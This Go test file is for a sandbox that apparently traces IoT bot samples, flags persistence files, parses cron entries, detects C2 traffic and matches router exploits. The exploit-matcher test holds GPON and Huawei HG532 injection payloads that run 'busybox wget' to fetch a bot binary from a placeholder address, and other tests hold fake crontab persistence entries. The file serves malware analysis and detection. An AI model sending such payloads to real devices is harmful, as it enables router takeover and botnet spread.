package sandbox

import (
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// TestParseTraceNative reads a recorded trace of the bot (x86_64, native):
// threads are folded into their process, the rival started through
// /bin/sh is a child with its exec chain, and its kill is reported.
func TestParseTraceNative(t *testing.T) {
	b, err := os.ReadFile(filepath.Join("testdata", "native-x86_64.trace"))
	if err != nil {
		t.Fatal(err)
	}
	f := parseTrace(b, "/")
	procs := f.processList()
	if len(procs) != 3 {
		t.Fatalf("processes = %+v, want sample, vfork helper, rival", procs)
	}
	root := procs[0]
	if !strings.HasPrefix(root.Exe, "/tmp/") || root.Exit == nil || !root.Exit.Finished {
		t.Errorf("root = %+v", root)
	}
	rival := procs[2]
	if rival.Exe != "/bin/sh" || !slices.Equal(rival.Argv, []string{"sleep", "30"}) || len(rival.Execs) != 2 || rival.Exit == nil || rival.Exit.Signal != "SIGKILL" {
		t.Errorf("rival = %+v", rival)
	}
	if len(f.kills) != 1 || f.kills[0].TargetPID != rival.PID || f.kills[0].Signal != "SIGKILL" {
		t.Errorf("kills = %+v", f.kills)
	}
	var ports []string
	for _, k := range f.connOrder {
		ports = append(ports, k.dst)
	}
	if len(ports) != 12+1+1+1 {
		t.Errorf("connection destinations = %v", ports)
	}
	if f.rootExit == nil || f.rootExit.Code != 0 {
		t.Errorf("root exit = %+v", f.rootExit)
	}
}

func TestParseTraceEmpty(t *testing.T) {
	for _, in := range []string{"", "garbage\n", "14 1.0 execve(\"/proc/self/fd/3\", [], 0x0) = 0\n"} {
		f := parseTrace([]byte(in), "/")
		if len(f.processList()) != 0 {
			t.Errorf("%q: processes %+v", in, f.processList())
		}
	}
}

func TestLayout(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("mounting the layout's tmpfs needs root")
	}
	l, err := newLayout(t.TempDir(), DefaultMounts+"/dev/mtdblock4 /jffs jffs2 rw 0 0\n/dev/mtdblock5 /rom squashfs ro 0 0\ntmpfs /run tmpfs rw,size=512k 0 0\n", 64<<20, true)
	if err != nil {
		t.Fatal(err)
	}
	defer l.unmount()
	if !slices.Equal(l.flash, []string{"/jffs"}) {
		t.Errorf("flash = %v", l.flash)
	}
	want := []string{"disk: tmpfs / 67108864 bytes", "disk: tmpfs /tmp 16777216 bytes", "disk: tmpfs /var 16777216 bytes", "disk: tmpfs /run 524288 bytes"}
	if !slices.Equal(l.enforced, want) {
		t.Errorf("enforced = %q", l.enforced)
	}
	// the cap holds: a write past the declared size fails
	if err := os.WriteFile(filepath.Join(l.volatile[2].Src, "big"), make([]byte, 600<<10), 0o644); err == nil {
		t.Error("wrote 600 KiB to a 512 KiB tmpfs")
	}
	for p, want := range map[string]bool{
		"/etc/init.d/S95x": true, "/tmp/x": false, "/var/run/a.pid": false, "/jffs/x": true, "/tmpx": true, "/": true,
	} {
		if got := l.persistent(p); got != want {
			t.Errorf("persistent(%s) = %v, want %v", p, got, want)
		}
	}
	if !slices.Equal(l.readOnly, []string{"/rom"}) {
		t.Errorf("read-only = %v", l.readOnly)
	}
	if got := l.hostPath("/tmp/a/../b"); !strings.HasSuffix(got, filepath.Join("vol", "0", "b")) {
		t.Errorf("hostPath = %s", got)
	}
	if got := l.hostPath("/etc/x"); got != filepath.Join(l.root, "etc", "x") {
		t.Errorf("hostPath = %s", got)
	}
}

func TestPersistenceFiles(t *testing.T) {
	ops := []FileOp{
		{Op: "write", Path: "/etc/init.d/S95x", Persistent: true},
		{Op: "write", Path: "/tmp/.x", Persistent: false},
		{Op: "write", Path: "/etc/crontabs/root", Persistent: true},
		{Op: "write", Path: "/var/spool/cron/crontabs/root", Persistent: false}, // /var is tmpfs
		{Op: "rename", Path: "/tmp/a", To: "/etc/rc.local", Persistent: true},
		{Op: "delete", Path: "/sbin/sysupgrade", Persistent: true},
		{Op: "write", Path: "/usr/bin/.x", Persistent: true},
	}
	files, blocking := persistenceFiles(ops)
	if !slices.Equal(files, []string{"/etc/init.d/S95x", "/etc/crontabs/root", "/etc/rc.local"}) {
		t.Errorf("files = %v", files)
	}
	if !slices.Equal(blocking, []string{"delete /sbin/sysupgrade"}) {
		t.Errorf("blocking = %v", blocking)
	}
}

func TestVerdict(t *testing.T) {
	ran := &Report{Processes: []Process{{PID: 1}}}
	tests := []struct {
		name      string
		rep       *Report
		files     []string
		reboot    bool
		restarted bool
		want      string
		steps     int
	}{
		{"restarted", ran, []string{"/etc/init.d/S95x"}, true, true, VerdictPersistent, 5},
		{"files, no reboot", ran, []string{"/etc/init.d/S95x"}, false, false, VerdictPersistent, 5},
		{"files, not restarted", ran, []string{"/etc/init.d/S95x"}, true, false, VerdictUnknown, 5},
		{"nothing on flash", ran, nil, true, false, VerdictVolatile, 3},
		{"did not run", &Report{}, nil, false, false, VerdictUnknown, 5},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := verdict(tc.rep, tc.files, nil, tc.reboot, tc.restarted, "/usr/bin/.x", nil)
			if p.Verdict != tc.want || len(p.RemovalSteps) != tc.steps || p.Reason == "" {
				t.Errorf("got %+v", p)
			}
			if !strings.HasPrefix(p.RemovalSteps[0], "Reboot") || !strings.Contains(p.RemovalSteps[1], "password") || !strings.Contains(p.RemovalSteps[2], "Telnet") {
				t.Errorf("steps out of order: %q", p.RemovalSteps)
			}
		})
	}
}

func TestCronCommands(t *testing.T) {
	l := &layout{root: t.TempDir(), mounts: parseMounts(DefaultMounts)}
	os.MkdirAll(filepath.Join(l.root, "etc/crontabs"), 0o755)
	os.WriteFile(filepath.Join(l.root, "etc/crontabs/root"), []byte("# m h dom mon dow cmd\nSHELL=/bin/sh\n*/5 * * * * /usr/bin/.y -d\n@reboot /etc/.b\n"), 0o644)
	os.WriteFile(filepath.Join(l.root, "etc/crontab"), []byte("0 * * * * root /bin/x\n"), 0o644)
	got := cronCommands(l)
	if !slices.Equal(got, []string{"/bin/x", "/usr/bin/.y -d", "/etc/.b"}) {
		t.Errorf("cron = %q", got)
	}
	script := rebootScript([]bootEntry{{cmd: "/etc/init.d/rcS", script: true}, {cmd: "/bin/mount -a"}}, got)
	for _, want := range []string{"[ -f '/etc/init.d/rcS' ] && /bin/sh '/etc/init.d/rcS' start\n", "/bin/sh -c '/bin/mount -a'\n", "( /bin/sh -c '/usr/bin/.y -d' ) &\n", "wait\n"} {
		if !strings.Contains(script, want) {
			t.Errorf("script lacks %q:\n%s", want, script)
		}
	}
}

func TestExploitMatcher(t *testing.T) {
	m, err := DefaultExploits()
	if err != nil {
		t.Fatal(err)
	}
	gpon := []byte("POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: x\r\n\r\nXWebPageName=diag&diag_action=ping&dest_host=`busybox+wget+http://198.51.100.99/bins/x.mips+-O+/tmp/gaf`")
	hg532 := []byte("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n\r\n<NewStatusURL>$(/bin/busybox wget -g 198.51.100.9 -l /tmp/x -r /bins/mips)</NewStatusURL>")
	tests := []struct {
		name    string
		port    int
		payload []byte
		cve     string
		urls    []string
	}{
		{"gpon", 8080, gpon, "CVE-2018-10561", []string{"http://198.51.100.99/bins/x.mips"}},
		{"huawei", 37215, hg532, "CVE-2017-17215", []string{"http://198.51.100.9/bins/mips"}},
		{"plain GET", 80, []byte("GET / HTTP/1.1\r\n\r\n"), "", nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			ms := m.MatchRaw("tcp", tc.port, tc.payload)
			if tc.cve == "" {
				if len(ms) != 0 {
					t.Errorf("matches = %+v", ms)
				}
				return
			}
			if len(ms) != 1 || !slices.Contains(ms[0].CVE, tc.cve) || !slices.Equal(ms[0].DownloadURLs, tc.urls) {
				t.Errorf("matches = %+v, want %s fetching %v", ms, tc.cve, tc.urls)
			}
		})
	}
}

func TestJoinNetwork(t *testing.T) {
	f := &traceFacts{attempts: map[connKey]*Connection{}}
	for i := range 3 {
		f.attempt("tcp", "198.18.0.5", 4444, "")
		_ = i
	}
	recs := []fakeRecord{
		{Kind: "dns", Name: "c2.test", QType: "A", Answer: "198.18.0.5"},
		{Kind: "tcp", Dst: mustAP("198.18.0.5:4444"), Bytes: 4, First: []byte("ping"), Duration: 30 * time.Second},
	}
	rep := &Report{}
	m, _ := DefaultExploits()
	joinNetwork(rep, f, recs, m, 10*time.Second)
	if len(rep.C2) != 1 || rep.C2[0].Name != "c2.test" || len(rep.C2[0].Reasons) != 3 {
		t.Errorf("c2 = %+v", rep.C2)
	}
	if rep.Connections[0].First != "ping" || rep.Connections[0].Captured != 1 || rep.Connections[0].Count != 3 {
		t.Errorf("connections = %+v", rep.Connections)
	}
}

func FuzzParseTrace(f *testing.F) {
	b, _ := os.ReadFile(filepath.Join("testdata", "native-x86_64.trace"))
	lines := strings.Split(string(b), "\n")
	f.Add(strings.Join(lines[:min(len(lines), 120)], "\n"))
	f.Fuzz(func(t *testing.T, s string) {
		tf := parseTrace([]byte(s), "/")
		tf.processList()
	})
}

func mustAP(s string) netip.AddrPort { return netip.MustParseAddrPort(s) }

func TestKernelAtLeast(t *testing.T) {
	for rel, want := range map[string]bool{"6.18.44-fc-v669": true, "6.7.0": true, "6.6.30-amd64": false, "5.10.0": false, "7.0": true, "x": false} {
		if got := kernelAtLeast(rel, 6, 7); got != want {
			t.Errorf("kernelAtLeast(%q) = %v", rel, got)
		}
	}
}
